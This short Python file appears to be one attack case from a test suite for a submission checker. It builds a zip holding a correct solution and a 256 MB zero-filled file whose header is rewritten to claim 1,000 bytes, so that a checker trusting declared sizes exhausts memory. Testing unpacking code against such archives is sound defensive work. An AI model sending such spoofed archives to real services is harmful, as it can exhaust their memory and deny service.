# /// attack
# does = "is a .zip with a right solution and a file of 256 MB that claims to be 1,000 bytes"
# own = {}
# builds = true
# ///
"""Whoever believes the size before and not after unpacking has 256 MB in memory. Reading ends one byte after what
was claimed."""

import struct
import zipfile


def build(folder, right):
    path = folder / "alice.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("mlp.py", right)
        with made.open("zeros.bin", "w") as member:
            for _ in range(64):
                member.write(bytes(4 << 20))
    content = path.read_bytes()
    size = struct.pack("<I", 256 << 20)
    assert size in content
    path.write_bytes(content.replace(size, struct.pack("<I", 1000)))
    return path
